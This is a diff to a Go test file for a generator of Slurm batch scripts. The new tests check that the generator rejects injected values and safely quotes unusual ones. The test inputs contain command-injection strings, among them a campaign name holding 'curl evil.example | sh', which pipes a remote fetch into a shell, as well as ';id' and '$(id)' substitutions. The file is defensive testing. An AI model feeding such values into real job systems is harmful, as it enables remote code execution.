@@ -72,9 +72,14 @@ func TestScript(t *testing.T) {
 			t.Errorf("script without %s still has it:\n%s", absent, s2)
 		}
 	}
-	// bash parses it.
+	bashParses(t, s)
+}
+
+// bashParses checks that bash reads the script (bash -n).
+func bashParses(t *testing.T, script string) {
+	t.Helper()
 	path := filepath.Join(t.TempDir(), "job.sbatch")
-	if err := os.WriteFile(path, []byte(s), 0o644); err != nil {
+	if err := os.WriteFile(path, []byte(script), 0o644); err != nil {
 		t.Fatal(err)
 	}
 	if out, err := exec.Command("bash", "-n", path).CombinedOutput(); err != nil {
@@ -93,10 +98,15 @@ func TestScriptRefusesBadValues(t *testing.T) {
 		"--launcher":         func(j *Job) { j.Launcher = "aprun" },
 		"--sbatch":           func(j *Job) { j.Extra = []string{"qos=high"} },
 		"--database-replica": func(j *Job) { j.DatabaseReplicas = []string{"s3://eu/nt\n--x"} },
+		"--sbatch ":          func(j *Job) { j.Extra = []string{"--qos=high --wrap=id"} },
+		// From the plan, which whoever can write the ledger writes.
+		"campaign name":     func(j *Job) { j.CampaignName = "nt\ncurl evil.example | sh\n#" },
+		"campaign name ":    func(j *Job) { j.CampaignName = "nt;id" },
+		"campaign location": func(j *Job) { j.Campaign = "s3://campaigns/nt\ncurl evil.example | sh" },
 	} {
 		j := testJob()
 		mutate(&j)
-		if _, err := j.Script(); err == nil || !strings.Contains(err.Error(), flag) {
+		if _, err := j.Script(); err == nil || !strings.Contains(err.Error(), strings.TrimSpace(flag)) {
 			t.Errorf("%s: err = %v, want one naming the flag", flag, err)
 		}
 	}
@@ -113,5 +123,48 @@ func TestParseSqueue(t *testing.T) {
 	}
 	if one := parseSqueue(out, "nt", "hpc-a"); len(one) != 1 || one[0].ID != "12" {
 		t.Errorf("site hpc-a: %+v", one)
+	}
+}
+
+// Odd but valid values (quotes, spaces, '$', backquotes in locations and
+// paths) give a script bash parses, with every value a single-quoted word
+// and nothing run: bash -x on the value lines shows no command but the
+// assignments.
+func TestScriptQuotesOddValues(t *testing.T) {
+	j := testJob()
+	j.Campaign = "/scratch/o'brien/$(id) `id` ; camp"
+	j.Engine = "/opt/my engine/$HOME/blastfleet-engine"
+	j.CacheDir = "/tmp/a'b $c"
+	j.DatabaseReplicas = []string{"/data/x'; id; '"}
+	j.CampaignName = "Run_2-B"
+	j.Extra = []string{"--exclude=node[1-3]", "--constraint=(a&b)|c"}
+	s, err := j.Script()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, want := range []string{
+		`campaign='/scratch/o'\''brien/$(id) ` + "`id`" + ` ; camp'` + "\n",
+		"# '/scratch/o'\\''brien/$(id) `id` ; camp'\n",
+		`engine='/opt/my engine/$HOME/blastfleet-engine'` + "\n",
+		`cache='/tmp/a'\''b $c'/blastfleet-"$SLURM_JOB_ID"` + "\n",
+		`--database-replica '/data/x'\''; id; '\'''` + "\n",
+		"#SBATCH --job-name=blastfleet.Run_2-B.hpc-a\n",
+		"#SBATCH --exclude=node[1-3]\n", "#SBATCH --constraint=(a&b)|c\n",
+	} {
+		if !strings.Contains(s, want) {
+			t.Errorf("script lacks %q:\n%s", want, s)
+		}
+	}
+	bashParses(t, s)
+	// The assignments evaluate to the values themselves.
+	var vars []string
+	for _, line := range strings.Split(s, "\n") {
+		if strings.HasPrefix(line, "campaign=") || strings.HasPrefix(line, "engine=") {
+			vars = append(vars, line)
+		}
+	}
+	out, err := exec.Command("bash", "-c", strings.Join(vars, "\n")+"\nprintf '%s\\n' \"$campaign\" \"$engine\"").CombinedOutput()
+	if err != nil || string(out) != j.Campaign+"\n"+j.Engine+"\n" {
+		t.Errorf("values read back as %q (%v), want %q and %q", out, err, j.Campaign, j.Engine)
 	}
 }
